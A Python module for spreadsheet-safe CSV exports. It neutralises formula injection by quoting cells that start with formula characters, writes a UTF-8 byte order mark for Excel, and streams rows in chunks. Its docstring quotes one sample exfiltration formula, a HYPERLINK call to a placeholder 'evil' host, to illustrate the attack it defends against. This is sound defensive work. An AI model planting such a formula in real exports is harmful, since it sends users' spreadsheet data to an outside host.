"""CSV for spreadsheets: cells a spreadsheet will not run, bytes Excel reads as UTF-8.

Producers write what they like, and what they write reaches our exports (a name, a message). A
spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(``=HYPERLINK("http://evil/?"&A1, "ver")`` sends the sheet's data away when clicked); a leading
tab or carriage return lets such a cell slip past filters that look only at the first character.
OWASP's guidance on CSV injection: prefix such a cell with a single quote, which spreadsheets
take as "this is text" (and Excel does not show). Only text is neutralised: a number or a date
is ours, written here, and ``-3`` must stay a number.

The file starts with a UTF-8 byte order mark: Excel opens a double-clicked .csv in the
machine's legacy code page (Windows-1252 on a Spanish Windows) unless it finds one, and "maíz"
would show as "maÃ\xadz". LibreOffice, Google Sheets and Python's ``utf-8-sig`` read it as the
mark it is. The separator stays the comma of RFC 4180: a ``sep=;`` line for Excel in locales
whose list separator is ";" would make Excel ignore the byte order mark.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable, Iterator, Sequence
from typing import Any

BOM = "\ufeff"
# The first characters a spreadsheet may read as the start of a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Rows are gathered into chunks of about this many characters before they are handed to the
# server: one write per row would be thousands of tiny writes for a large programme.
CHUNK_CHARS = 32 * 1024


def safe_cell(value: Any) -> str | int | float:
    """One cell as a spreadsheet should see it: text that could start a formula gets a leading
    single quote; None is empty; numbers stay numbers; dates and times are ISO 8601."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "sí" if value else "no"
    if isinstance(value, int | float):
        return value
    if isinstance(value, dt.datetime):
        return value.strftime("%Y-%m-%d %H:%M")
    if isinstance(value, dt.date):
        return value.isoformat()
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def csv_chunks(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> Iterator[bytes]:
    """The CSV file as UTF-8 chunks: the byte order mark and the header first (at once, before
    any row is read), then the rows, a chunk at a time, as ``rows`` yields them."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([safe_cell(h) for h in header])
    yield (BOM + buffer.getvalue()).encode("utf-8")
    buffer.seek(0)
    buffer.truncate()
    for row in rows:
        writer.writerow([safe_cell(v) for v in row])
        if buffer.tell() >= CHUNK_CHARS:
            yield buffer.getvalue().encode("utf-8")
            buffer.seek(0)
            buffer.truncate()
    if buffer.tell():
        yield buffer.getvalue().encode("utf-8")
